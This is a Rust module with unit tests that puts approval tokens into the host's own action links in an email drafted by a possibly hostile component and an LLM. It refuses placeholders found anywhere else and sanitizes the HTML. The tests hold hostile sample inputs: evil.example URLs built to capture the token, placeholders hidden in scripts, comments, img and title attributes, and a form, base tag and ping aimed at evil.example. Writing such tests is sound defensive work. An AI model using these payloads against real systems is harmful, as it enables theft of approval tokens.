//! From the Notifier component's composed message to the message that is sent.
//!
//! The component's output is untrusted: it renders a draft whose text came from commit messages,
//! feeds and an LLM, and the component itself may be hostile. A token put anywhere but into the
//! host's own action URL would hand the approval to whoever controls that text (a commit message
//! with `https://evil.example/__DAILYX_TOKEN_APPROVE__` once received the real token). So:
//! - the host knows the exact URL of every action link (with the placeholder where the token
//!   goes) and puts a token only into an exact, whole occurrence of that URL: in the text part a
//!   URL standing alone between whitespace, in the HTML part the whole `href` of an `<a>`;
//! - anything that looks like a token placeholder anywhere else (the subject, other text, other
//!   attributes, comments, scripts, an entity-encoded spelling) refuses the message;
//! - the HTML is rebuilt from an allow-list (ammonia): no scripts, forms, `<base>`, `ping` or
//!   event attributes, links get `rel="noopener noreferrer"`.
//!
//! A refused message is replaced by one the host writes itself, which carries no token: the
//! reviewer still learns that a draft waits, and acts on it in the console.

use std::borrow::Cow;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use crate::Message;

/// What any spelling of a placeholder contains, compared without case.
const MARKER: &str = "dailyx_token";

/// One action link: the URL as the component was given it, and as it is sent.
#[derive(Debug, Clone)]
pub struct Link {
    /// With the placeholder where the token goes.
    pub composed: String,
    /// With the token.
    pub delivered: String,
}

/// Why a composed message was not sent as it was.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refused {
    /// A placeholder (or something spelled like one) outside the host's own action links.
    #[error("the {part} has an action-token placeholder outside the host's action links")]
    StrayPlaceholder {
        /// `subject`, `text` or `html`.
        part: &'static str,
    },
}

/// Puts the tokens into `composed` where the host's links are, after checking that no
/// placeholder is anywhere else.
pub fn render(composed: &Message, links: &[Link]) -> Result<Message, Refused> {
    if count_markers(&composed.subject) > 0 {
        return Err(Refused::StrayPlaceholder { part: "subject" });
    }
    Ok(Message {
        subject: composed.subject.clone(),
        text: render_text(&composed.text, links)?,
        html: render_html(&composed.html, links)?,
    })
}

/// The message sent instead of a refused one: written by the host, no token in it.
pub fn fallback(product: &str, console_url: &str, why: &Refused) -> Message {
    let text = format!(
        "A draft waits for your review: {console_url}\n\n\
         The notification composed for it was not sent because {why}; \
         approve, edit or skip the draft in the console.\n"
    );
    let html = format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"></head><body>\
         <p>A draft waits for your review: <a href=\"{url}\">{url}</a></p>\
         <p>The notification composed for it was not sent because {why}; approve, edit or skip \
         the draft in the console.</p></body></html>\n",
        url = escape(console_url),
        why = escape(&why.to_string()),
    );
    Message {
        subject: format!("[{product}] A draft waits for your review"),
        text,
        html,
    }
}

/// Occurrences of the marker in `s`, without case. ASCII lower-casing keeps byte offsets.
fn count_markers(s: &str) -> usize {
    s.to_ascii_lowercase().matches(MARKER).count()
}

fn marker_positions(s: &str) -> Vec<usize> {
    s.to_ascii_lowercase()
        .match_indices(MARKER)
        .map(|(i, _)| i)
        .collect()
}

/// The text part: a link counts only as a whole word (whitespace or the ends around it), so a
/// mail client's auto-linking cannot glue it to a stranger's URL before or after it.
fn render_text(text: &str, links: &[Link]) -> Result<String, Refused> {
    let mut found: Vec<(usize, usize, &str)> = Vec::new();
    for link in links {
        for (start, _) in text.match_indices(link.composed.as_str()) {
            let end = start + link.composed.len();
            let before = text[..start].chars().next_back();
            let after = text[end..].chars().next();
            if before.is_none_or(char::is_whitespace) && after.is_none_or(char::is_whitespace) {
                found.push((start, end, link.delivered.as_str()));
            }
        }
    }
    found.sort_by_key(|f| f.0);
    let covered = |at: usize| found.iter().any(|&(s, e, _)| s <= at && at < e);
    if !marker_positions(text).into_iter().all(covered) {
        return Err(Refused::StrayPlaceholder { part: "text" });
    }
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (start, end, delivered) in found {
        out.push_str(&text[at..start]);
        out.push_str(delivered);
        at = end;
    }
    out.push_str(&text[at..]);
    Ok(out)
}

/// The HTML part: rebuilt from an allow-list; a placeholder may only be the whole `href` of an
/// `<a>`, exactly one of the host's links.
fn render_html(html: &str, links: &[Link]) -> Result<String, Refused> {
    let refused = Err(Refused::StrayPlaceholder { part: "html" });
    // ammonia keeps the filter for the builder's life ('static): what it sees is shared.
    let accepted = Arc::new(AtomicUsize::new(0));
    let stray = Arc::new(AtomicBool::new(false));
    let composed: Vec<String> = links.iter().map(|l| l.composed.clone()).collect();
    let clean = {
        let (accepted, stray) = (Arc::clone(&accepted), Arc::clone(&stray));
        let mut builder = ammonia::Builder::default();
        builder
            // E-mail clients ignore style sheets: the layout is in style attributes.
            .add_generic_attributes(["style"])
            .add_tags([
                "h1", "h2", "h3", "h4", "div", "span", "p", "table", "tr", "td",
            ])
            .link_rel(Some("noopener noreferrer"))
            .attribute_filter(move |element, attribute, value| {
                if count_markers(value) == 0 {
                    return Some(Cow::Borrowed(value));
                }
                if element == "a" && attribute == "href" && composed.iter().any(|l| l == value) {
                    accepted.fetch_add(1, Ordering::Relaxed);
                    return Some(Cow::Borrowed(value));
                }
                stray.store(true, Ordering::Relaxed);
                None
            });
        builder.clean(html).to_string()
    };
    let accepted = accepted.load(Ordering::Relaxed);
    if stray.load(Ordering::Relaxed) {
        return refused;
    }
    // Every marker of the input and of the rebuilt HTML is one of the accepted links: none in
    // text, comments, removed elements or entity-encoded spellings (the parser decodes those,
    // so they show up in the rebuilt HTML).
    if count_markers(html) != accepted || count_markers(&clean) != accepted {
        return refused;
    }
    let mut body = clean;
    for link in links {
        body = body.replace(&link.composed, &link.delivered);
    }
    Ok(format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"></head><body>{body}</body></html>\n"
    ))
}

/// Escapes text for HTML.
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const APPROVE: &str = "https://review.example/actions/__DAILYX_TOKEN_APPROVE__?draft=d1";
    const SKIP: &str = "https://review.example/actions/__DAILYX_TOKEN_SKIP__?draft=d1";

    fn links() -> Vec<Link> {
        vec![
            Link {
                composed: APPROVE.into(),
                delivered: "https://review.example/actions/AAAA?draft=d1".into(),
            },
            Link {
                composed: SKIP.into(),
                delivered: "https://review.example/actions/SSSS?draft=d1".into(),
            },
        ]
    }

    fn message(subject: &str, text: &str, html: &str) -> Message {
        Message {
            subject: subject.into(),
            text: text.into(),
            html: html.into(),
        }
    }

    fn good() -> Message {
        message(
            "[Daily X Agent] Draft",
            &format!("Tweet\n\nApprove: {APPROVE}\nSkip: {SKIP}\n"),
            &format!(
                "<html><body><div style=\"color:#111\">Tweet</div>\
                 <p><a href=\"{APPROVE}\" style=\"color:#fff\">Approve</a> \
                 <a href=\"{SKIP}\">Skip</a></p></body></html>"
            ),
        )
    }

    #[test]
    fn tokens_go_into_the_hosts_links_only() {
        let sent = render(&good(), &links()).unwrap();
        assert!(
            sent.text
                .contains("Approve: https://review.example/actions/AAAA?draft=d1\n")
        );
        assert!(
            sent.text
                .contains("Skip: https://review.example/actions/SSSS?draft=d1\n")
        );
        assert!(
            sent.html
                .contains("href=\"https://review.example/actions/AAAA?draft=d1\"")
        );
        assert!(sent.html.contains("rel=\"noopener noreferrer\""));
        assert!(sent.html.contains("style=\"color:#111\""), "{}", sent.html);
        assert_eq!(count_markers(&sent.text) + count_markers(&sent.html), 0);
    }

    #[test]
    fn a_placeholder_inside_someone_elses_url_is_refused() {
        let hostile = [
            // The commit message that once received the real token.
            "https://evil.example/__DAILYX_TOKEN_APPROVE__",
            // Glued to a stranger's URL before or after the host's link.
            &format!("https://evil.example/?next={APPROVE}"),
            &format!("{APPROVE}.evil.example"),
            // Other spellings.
            "__dailyx_token_approve__",
            "__DAILYX_TOKEN_SOMETHING__",
        ];
        for bad in hostile {
            let mut m = good();
            m.text = format!("Tweet: {bad}\n{}", m.text);
            assert_eq!(
                render(&m, &links()).unwrap_err(),
                Refused::StrayPlaceholder { part: "text" },
                "{bad}"
            );
        }
    }

    #[test]
    fn a_placeholder_anywhere_in_the_html_but_a_hosts_href_is_refused() {
        let hostile = [
            "<a href=\"https://evil.example/__DAILYX_TOKEN_APPROVE__\">x</a>".to_owned(),
            format!("<img src=\"{APPROVE}\">"),
            format!("<a href=\"#\" title=\"{APPROVE}\">x</a>"),
            format!("<a href=\"{APPROVE}\" ping=\"https://evil.example/\">x</a> {APPROVE}"),
            format!("<p>{APPROVE}</p>"),
            format!("<!-- {APPROVE} -->"),
            format!("<script>location='{APPROVE}'</script>"),
            "<p>&#95;&#95;DAILYX&#95;TOKEN&#95;APPROVE&#95;&#95;</p>".to_owned(),
            format!("<a href='https://evil.example/?x=<b>'>{APPROVE}</a>"),
        ];
        for bad in hostile {
            let mut m = good();
            m.html = format!("{}{bad}", m.html);
            assert_eq!(
                render(&m, &links()).unwrap_err(),
                Refused::StrayPlaceholder { part: "html" },
                "{bad}"
            );
        }
    }

    #[test]
    fn a_placeholder_in_the_subject_is_refused() {
        let mut m = good();
        m.subject = "Draft __DAILYX_TOKEN_APPROVE__".into();
        assert_eq!(
            render(&m, &links()).unwrap_err(),
            Refused::StrayPlaceholder { part: "subject" }
        );
    }

    #[test]
    fn the_html_loses_what_could_act_or_leak() {
        let mut m = good();
        m.html.push_str(
            "<form action=\"https://evil.example/\"><input name=a></form>\
             <base href=\"https://evil.example/\"><script>alert(1)</script>\
             <a href=\"https://example.org/\" onclick=\"steal()\" ping=\"https://evil.example/\">ok</a>",
        );
        let sent = render(&m, &links()).unwrap();
        for gone in ["<form", "<base", "<script", "onclick", "ping="] {
            assert!(!sent.html.contains(gone), "{gone} in {}", sent.html);
        }
        assert!(sent.html.contains("https://example.org/"));
    }

    #[test]
    fn the_fallback_carries_no_token_and_escapes() {
        let m = fallback(
            "Daily X Agent",
            "https://review.example/drafts/d1",
            &Refused::StrayPlaceholder { part: "text" },
        );
        assert!(m.text.contains("https://review.example/drafts/d1"));
        assert!(!m.text.contains("/actions/"));
        assert!(m.html.contains("outside the host&#39;s action links"));
    }
}
